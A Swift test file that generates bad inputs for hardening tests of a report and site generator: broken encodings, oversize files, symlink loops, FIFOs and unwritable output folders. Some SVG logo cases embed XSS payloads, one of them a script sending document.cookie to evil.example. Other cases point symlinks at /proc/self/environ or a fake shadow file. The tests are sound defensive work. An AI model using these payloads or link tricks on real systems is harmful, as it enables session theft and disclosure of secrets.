import Foundation
import MatchPlanTestSupport

/// Inputs built at run time instead of committed: bytes git or editors would mangle (non-UTF-8,
/// byte-order marks, CRLF), a file over the 4 MiB limit (never committed), symbolic links and
/// output folders that cannot be written. Each generator prepares the sandbox and sets `{file}`
/// or `{out}`; `expectations.yaml` names them under `generate:`.
enum Generators {
    static let bom: [UInt8] = [0xEF, 0xBB, 0xBF]
    /// One byte over ``MatchPlanKit/SourceText/maximumBytes`` (4 MiB).
    static let oversize = 4 * 1024 * 1024 + 1

    static let all: [String: @Sendable (Sandbox, BadInputCase) throws -> Void] = [
        "profile-non-utf8": { box, entry in
            try box.place(Data("match_year: 2027\nname: Jo".utf8 + [0xFF, 0xFE] + Data("\n".utf8)), at: entry.placement, name: "profile.yaml")
        },
        "profile-nul-byte": { box, entry in
            try box.place(Data("match_year: 2027\nname: Jo".utf8) + [0x00] + Data("rdan\n".utf8), at: entry.placement, name: "profile.yaml")
        },
        "profile-bom-error": { box, entry in
            try box.place(Data(bom + Array("match_year: 1990\n".utf8)), at: entry.placement, name: "profile.yaml")
        },
        "profile-crlf-error": { box, entry in
            try box.place(Data("match_year: 2027\r\nstep2ck:\r\n  score: 301\r\n".utf8), at: entry.placement, name: "profile.yaml")
        },
        "profile-cr-only-error": { box, entry in
            try box.place(Data("match_year: 2027\rstep2ck:\r  score: 301\r".utf8), at: entry.placement, name: "profile.yaml")
        },
        "profile-bom-crlf-valid": { box, entry in
            let solid = try String(contentsOfFile: Repository.path("Content/profiles/solid.yaml"), encoding: .utf8)
            try box.place(Data(bom + Array(solid.replacingOccurrences(of: "\n", with: "\r\n").utf8)), at: entry.placement, name: "profile.yaml")
        },
        "profile-oversize": { box, entry in
            try box.place(padded("match_year: 2027\n"), at: entry.placement, name: "profile.yaml")
        },
        "profile-is-folder": { box, _ in box.file = box.tmp },
        "profile-missing": { box, _ in box.file = (box.tmp as NSString).appendingPathComponent("no-such-profile.yaml") },
        "content-non-utf8": { box, entry in
            try box.place(Data("---\nid: \"faq\"\ntitle: \"Questions\"\nsection: \"faq\"\n---\nCaf".utf8) + [0xC3, 0x28] + Data("\n".utf8),
                          at: entry.placement, name: "page.md")
        },
        "content-bom-crlf-error": { box, entry in
            let page = "---\r\nid: \"faq\"\r\ntitle: \"Questions\"\r\nsection: \"faqs\"\r\n---\r\nBody.\r\n"
            try box.place(Data(bom + Array(page.utf8)), at: entry.placement, name: "page.md")
        },
        "content-oversize": { box, entry in
            try box.place(padded("---\nid: \"faq\"\ntitle: \"Questions\"\nsection: \"faq\"\n---\n"), at: entry.placement, name: "page.md")
        },
        "content-symlink-loop": { box, _ in
            box.file = (try box.contentCopy() as NSString).appendingPathComponent("guidance/faq/loop")
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "..")
        },
        "content-symlink-to-itself": { box, _ in
            box.file = (try box.contentCopy() as NSString).appendingPathComponent("guidance/faq/self.md")
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "self.md")
        },
        "content-without-rules": { box, _ in
            box.file = (try box.contentCopy() as NSString).appendingPathComponent("rules.yaml")
            try FileManager.default.removeItem(atPath: box.file)
        },
        "content-without-guidance": { box, _ in
            box.file = (try box.contentCopy() as NSString).appendingPathComponent("guidance")
            try FileManager.default.removeItem(atPath: box.file)
        },
        "template-non-utf8": { box, entry in
            try box.place(Data("<h3>{{title}}</h3>\n".utf8) + [0x80] + Data("\n{{{html}}}\n".utf8), at: entry.placement, name: "page.mustache")
        },
        "templates-without-report-md": { box, _ in
            box.file = (try box.templatesCopy() as NSString).appendingPathComponent("report.md.mustache")
            try FileManager.default.removeItem(atPath: box.file)
        },
        "roster-non-utf8": { box, entry in
            try box.place(Data("id,name,match_year\na,Ann,2027\nb,Bo".utf8) + [0xFF, 0xFE] + Data(",2027\n".utf8), at: entry.placement, name: "roster.csv")
        },
        "roster-bom-crlf-valid": { box, entry in
            let text = "id,name,match_year,step2ck_score\r\na,\"Lee, Ann\",2027,248\r\nb,\"Bo \"\"B\"\" Ray\",2027,240\r\n"
            try box.place(Data(bom + Array(text.utf8)), at: entry.placement, name: "roster.csv")
        },
        "roster-bom-crlf-error": { box, entry in
            let text = "id,name,match_year,step2ck_score\r\na,\"Lee, Ann\",2027,248\r\nb,Bo,2027,301\r\n"
            try box.place(Data(bom + Array(text.utf8)), at: entry.placement, name: "roster.csv")
        },
        "roster-folder-one-bad": { box, _ in
            box.file = (box.tmp as NSString).appendingPathComponent("class")
            try FileManager.default.createDirectory(atPath: box.file, withIntermediateDirectories: false)
            for name in ["solid.yaml", "high.yaml"] {
                try Repository.copy("Content/profiles/\(name)", to: "\(box.file)/\(name)")
            }
            try Repository.copy("Tests/BadInputs/profiles/step2ck-301.yaml", to: "\(box.file)/bad.yaml")
            try Data("not a profile".utf8).write(to: URL(fileURLWithPath: "\(box.file)/notes.txt"))
        },
        "site-page-named-faq": { box, entry in
            try box.place(Data("---\ntitle: \"Our FAQ\"\n---\nBody.\n".utf8), at: entry.placement, name: "faq.md")
        },
        // ---- Issue 11: files that are not regular files inside their folder ----
        "fifo": { box, _ in
            box.file = (box.tmp as NSString).appendingPathComponent("fifo")
            guard mkfifo(box.file, 0o644) == 0 else { throw CocoaError(.fileWriteUnknown) }
        },
        "site-logo-link-outside": { box, _ in
            let site = try box.siteCopy()
            try svg.write(to: URL(fileURLWithPath: "\(box.tmp)/secret.svg"))
            box.file = "\(site)/logo.svg"
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/secret.svg")
            try useLogo("logo.svg", in: site)
        },
        "site-logo-dotdot-outside": { box, _ in
            let site = try box.siteCopy()
            try FileManager.default.createDirectory(atPath: "\(box.tmp)/outside", withIntermediateDirectories: true)
            try svg.write(to: URL(fileURLWithPath: "\(box.tmp)/outside/x.svg"))
            box.file = "\(site)/../outside/x.svg"
            try useLogo("../outside/x.svg", in: site)
        },
        "site-logo-proc": { box, _ in
            let site = try box.siteCopy()
            box.file = "\(site)/logo.png"
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "/proc/self/environ")
            try useLogo("logo.png", in: site)
        },
        "site-logo-fifo": { box, _ in
            let site = try box.siteCopy()
            box.file = "\(site)/logo.png"
            guard mkfifo(box.file, 0o644) == 0 else { throw CocoaError(.fileWriteUnknown) }
            try useLogo("logo.png", in: site)
        },
        "site-logo-svg-script": { box, _ in
            let site = try box.siteCopy()
            box.file = "\(site)/logo.svg"
            try Data(#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\#n  <rect width="10" height="10"/>\#n  <script>fetch("https://evil.example/?"+document.cookie)</script>\#n</svg>\#n"#.utf8)
                .write(to: URL(fileURLWithPath: box.file))
            try useLogo("logo.svg", in: site)
        },
        "site-logo-svg-handler": { box, _ in
            let site = try box.siteCopy()
            box.file = "\(site)/logo.svg"
            try Data(#"<svg xmlns="http://www.w3.org/2000/svg">\#n<rect width="10" height="10" onclick="alert(1)"/>\#n</svg>\#n"#.utf8)
                .write(to: URL(fileURLWithPath: box.file))
            try useLogo("logo.svg", in: site)
        },
        "site-logo-svg-javascript-link": { box, _ in
            let site = try box.siteCopy()
            box.file = "\(site)/logo.svg"
            try Data(#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\#n<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>\#n</svg>\#n"#.utf8)
                .write(to: URL(fileURLWithPath: box.file))
            try useLogo("logo.svg", in: site)
        },
        "site-logo-svg-safe": { box, _ in
            let site = try box.siteCopy()
            box.file = "\(site)/logo.svg"
            try svg.write(to: URL(fileURLWithPath: box.file))
            try useLogo("logo.svg", in: site)
        },
        "site-page-link-outside": { box, _ in
            let site = try box.siteCopy()
            try Data("---\ntitle: \"Leak\"\n---\nOutside.\n".utf8).write(to: URL(fileURLWithPath: "\(box.tmp)/outside.md"))
            box.file = "\(site)/pages/leak.md"
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/outside.md")
        },
        "site-pages-folder-link-outside": { box, _ in
            let site = try box.siteCopy()
            try FileManager.default.createDirectory(atPath: "\(box.tmp)/elsewhere", withIntermediateDirectories: false)
            try Data("---\ntitle: \"Leak\"\n---\nOutside.\n".utf8).write(to: URL(fileURLWithPath: "\(box.tmp)/elsewhere/leak.md"))
            box.file = "\(site)/pages/more"
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/elsewhere")
        },
        "template-link-outside": { box, _ in
            let templates = try box.templatesCopy()
            box.file = "\(templates)/partials/page.html.mustache"
            try FileManager.default.moveItem(atPath: box.file, toPath: "\(box.tmp)/page.mustache")
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/page.mustache")
        },
        "content-link-outside": { box, _ in
            let content = try box.contentCopy()
            box.file = "\(content)/guidance/faq/faq.md"
            try FileManager.default.moveItem(atPath: box.file, toPath: "\(box.tmp)/faq.md")
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/faq.md")
        },
        // ---- Tester report items 8 and 9: template overrides are never skipped silently ----
        "template-partials-folder-link": { box, _ in
            let templates = try box.templatesCopy()
            box.file = "\(templates)/partials"
            try FileManager.default.moveItem(atPath: box.file, toPath: "\(box.tmp)/partials")
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/partials")
        },
        "template-link-to-itself": { box, _ in
            let templates = try box.templatesCopy()
            box.file = "\(templates)/partials/glance.html.mustache"
            try FileManager.default.removeItem(atPath: box.file)
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "glance.html.mustache")
        },
        "template-without-extension": { box, _ in
            let templates = try box.templatesCopy()
            box.file = "\(templates)/partials/glance.html"
            try FileManager.default.moveItem(atPath: "\(templates)/partials/glance.html.mustache", toPath: box.file)
        },
        "template-partial-at-top-level": { box, _ in
            let templates = try box.templatesCopy()
            box.file = "\(templates)/glance.html.mustache"
            try FileManager.default.copyItem(atPath: "\(templates)/partials/glance.html.mustache", toPath: box.file)
        },
        // ---- Tester report item 3: rules.yaml and cycles/ are regular files inside --content ----
        "content-rules-link-outside": { box, _ in
            let content = try box.contentCopy()
            box.file = "\(content)/rules.yaml"
            try Data("root:*:20228:0:99999:7:::\n".utf8).write(to: URL(fileURLWithPath: "\(box.tmp)/shadow"))
            try FileManager.default.removeItem(atPath: box.file)
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/shadow")
        },
        "content-cycle-link-outside": { box, _ in
            let content = try box.contentCopy()
            box.file = "\(content)/cycles/2027.yaml"
            try Data("root:*:20228:0:99999:7:::\n".utf8).write(to: URL(fileURLWithPath: "\(box.tmp)/shadow"))
            try FileManager.default.removeItem(atPath: box.file)
            try FileManager.default.createSymbolicLink(atPath: box.file, withDestinationPath: "\(box.tmp)/shadow")
        },
        "content-cycle-fifo": { box, _ in
            let content = try box.contentCopy()
            box.file = "\(content)/cycles/2027.yaml"
            try FileManager.default.removeItem(atPath: box.file)
            guard mkfifo(box.file, 0o600) == 0 else { throw CocoaError(.fileWriteUnknown) }
        },
        // ---- Issue 11: template include cycles ----
        "template-mutual-include": { box, _ in
            let templates = try box.templatesCopy()
            try Data("<div>{{title}}{{> partials/page.html}}</div>\n".utf8).write(to: URL(fileURLWithPath: "\(templates)/partials/aside.html.mustache"))
            box.file = "\(templates)/partials/page.html.mustache"
            try Data("<article>\n  <h3>{{title}}</h3>\n  {{> partials/aside.html}}\n</article>\n".utf8).write(to: URL(fileURLWithPath: box.file))
        },
        // ---- Issue 11: rosters a spreadsheet or an attacker makes ----
        "roster-huge-cell": { box, entry in
            // The issue's case: one 40 MB cell of ';'-separated items.
            var data = Data("id,match_year,concerns\na,2027,".utf8)
            data.append(Data(repeating: UInt8(ascii: "x"), count: 1))
            let item = Data(";other".utf8)
            var chunk = Data()
            for _ in 0..<(1 << 16) { chunk.append(item) }
            while data.count < 40_000_000 { data.append(chunk) }
            data.append(Data("\n".utf8))
            try box.place(data, at: entry.placement, name: "roster.csv")
        },
        "roster-long-list": { box, entry in
            let list = Array(repeating: "other", count: 101).joined(separator: ";")
            try box.place(Data("id,match_year,concerns\na,2027,other\nb,2027,\(list)\n".utf8), at: entry.placement, name: "roster.csv")
        },
        "roster-nul-cell": { box, entry in
            try box.place(Data("id,name,match_year\na,Ann,2027\nb,Bo".utf8) + [0x00] + Data(",2027\n".utf8), at: entry.placement, name: "roster.csv")
        },
        "profile-deep-nesting": { box, entry in
            try box.place(Data(("match_year: 2027\nname: " + String(repeating: "[", count: 2000) + String(repeating: "]", count: 2000) + "\n").utf8),
                          at: entry.placement, name: "profile.yaml")
        },
        "output-not-empty": { box, _ in
            box.out = (box.tmp as NSString).appendingPathComponent("thesis")
            try FileManager.default.createDirectory(atPath: box.out, withIntermediateDirectories: false)
            try Data("three years of work".utf8).write(to: URL(fileURLWithPath: "\(box.out)/chapter1.tex"))
        },
        "roster-utf16": { box, entry in
            try box.place(Data([0xFF, 0xFE]) + "id,match_year\na,2027\n".data(using: .utf16LittleEndian)!, at: entry.placement, name: "roster.csv")
        },
        "output-made-by-site": { box, _ in
            box.out = (box.tmp as NSString).appendingPathComponent("public")
            try FileManager.default.createDirectory(atPath: box.out, withIntermediateDirectories: false)
            try Data("<h1>site</h1>".utf8).write(to: URL(fileURLWithPath: "\(box.out)/index.html"))
            try Data("# kind: site\nindex.html\n".utf8).write(to: URL(fileURLWithPath: "\(box.out)/.matchplan-output"))
        },
        "output-made-by-roster": { box, _ in
            box.out = (box.tmp as NSString).appendingPathComponent("reports")
            try FileManager.default.createDirectory(atPath: box.out, withIntermediateDirectories: false)
            try Data("<h1>class</h1>".utf8).write(to: URL(fileURLWithPath: "\(box.out)/index.html"))
            try Data("# kind: roster\nindex.html\n".utf8).write(to: URL(fileURLWithPath: "\(box.out)/.matchplan-output"))
        },
        "output-is-file": { box, _ in
            box.out = (box.tmp as NSString).appendingPathComponent("occupied")
            try Data("not a folder".utf8).write(to: URL(fileURLWithPath: box.out))
        },
        "output-parent-is-file": { box, _ in
            box.file = (box.tmp as NSString).appendingPathComponent("occupied")
            try Data("not a folder".utf8).write(to: URL(fileURLWithPath: box.file))
            box.out = (box.file as NSString).appendingPathComponent("report")
        },
        "output-not-writable": { box, _ in
            if geteuid() != 0 {
                let locked = (box.tmp as NSString).appendingPathComponent("locked")
                try FileManager.default.createDirectory(atPath: locked, withIntermediateDirectories: false)
                chmod(locked, 0o555)
                box.out = (locked as NSString).appendingPathComponent("report")
            } else {
                // root ignores permission bits; sysfs refuses new folders even to root.
                box.out = "/sys/matchplan-hardening-out"
            }
        },
        "output-inside-content-through-link": { box, _ in
            let link = (box.tmp as NSString).appendingPathComponent("link-to-content")
            try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: try box.contentCopy())
            box.out = (link as NSString).appendingPathComponent("guidance/report")
        },
        "output-inside-content-through-relative-link": { box, _ in
            _ = try box.contentCopy()
            let link = (box.tmp as NSString).appendingPathComponent("relative-link")
            try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: "Content")
            box.out = (link as NSString).appendingPathComponent("guidance/report")
        },
        "output-inside-repository-content": { box, _ in
            box.out = "Content/matchplan-hardening-out"
            box.cleanup.append(Repository.path(box.out))
        },
        "output-inside-repository-templates": { box, _ in
            box.out = "Templates/partials/matchplan-hardening-out"
            box.cleanup.append(Repository.path(box.out))
        },
    ]

    /// A harmless SVG logo.
    static let svg = Data(##"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#235"/></svg>"##.utf8)

    /// Adds `logo: <name>` to the site.yaml in `site`.
    static func useLogo(_ name: String, in site: String) throws {
        let config = "\(site)/site.yaml"
        let text = try String(contentsOfFile: config, encoding: .utf8)
        try Data((text + "logo: \(name)\n").utf8).write(to: URL(fileURLWithPath: config))
    }

    /// `head` followed by comment lines up to ``oversize`` bytes.
    static func padded(_ head: String) -> Data {
        var data = Data(head.utf8)
        let line = Data("# padding to exceed the 4 MiB input limit ..........................................\n".utf8)
        while data.count < oversize { data.append(line) }
        return data
    }
}
